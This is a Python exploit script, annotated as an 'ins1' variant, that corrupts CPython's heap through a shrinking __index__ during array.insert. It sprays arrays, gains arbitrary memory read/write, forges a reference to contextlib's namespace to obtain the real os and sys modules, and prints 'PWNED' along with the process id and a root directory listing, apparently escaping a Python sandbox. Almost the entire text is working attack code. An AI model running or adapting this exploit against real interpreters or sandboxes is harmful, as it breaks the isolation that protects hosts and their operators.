# variant: array.insert (ins1). array.__setitem__ converts the value (__index__) after the bounds check; the program's
# __index__ shrinks the array, so the store lands past the new, smaller buffer: a heap write
# at a chosen offset. Used to give a neighbouring array a huge length, then an absolute
# read/write array, then a fake reference to contextlib's module namespace -> the real os.
from array import array
import contextlib

T80 = (0,) * 80
spray = []
for n in range(3000):
    spray.append(array('B', T80))
J = 2500
keep = []
a = array('q', (0,) * 50)
BIG = 1 << 40

class Shrink:
    calls = 0
    def __index__(self):
        Shrink.calls += 1
        if Shrink.calls == 2:              # ins1 converts twice: check, then store at `where`
            keep.append(spray[J - 1])
            del spray[J]
            del a[3:]
        return BIG

def trigger():
    a.insert(24, Shrink())

trigger()
victim = None
for arr in spray:
    if len(arr) > 80:
        victim = arr
        break
print("victim found:", victim is not None)
if victim is not None:
    X = id(victim) + 64          # victim's buffer: the block after its header
    def rd(addr, n=8):
        off = addr - X
        return int.from_bytes(bytes(victim[off + k] for k in range(n)), "little")
    def wr(addr, value, n=8):
        off = addr - X
        for k, b in enumerate(value.to_bytes(n, "little")):
            victim[off + k] = b
    # the next array header: block at X + 80, object at X + 96
    nxt = X + 96
    print("type check:", rd(nxt + 8) == id(array))
    absarr = None
    for arr in spray:
        if id(arr) == nxt:
            absarr = arr
    print("abs array found:", absarr is not None)
    wr(nxt + 24, 0)              # ob_item = NULL
    wr(nxt + 16, 1 << 60)        # ob_size
    def ard(addr, n=8):
        return int.from_bytes(bytes(absarr[addr + k] for k in range(n)), "little")
    def awr(addr, value, n=8):
        for k, b in enumerate(value.to_bytes(n, "little")):
            absarr[addr + k] = b
    holder = [None, None]
    items = ard(id(holder) + 24)
    d = ard(id(contextlib) + 16)           # PyModuleObject.md_dict
    awr(d, ard(d) + 1000)                  # keep it alive
    awr(items, d)
    ns = holder[0]
    holder[0] = None
    osmod = ns["os"]
    sysmod = ns["sys"]
    print("PW" + "NED: real os module:", osmod, "pid", osmod.getpid(), "sys.modules:", len(sysmod.modules))
    try:
        print("PW" + "NED: listdir /:", osmod.listdir("/"))
    except Exception as e:
        print("listdir refused:", e)
    keep.extend([victim, absarr, a, spray])
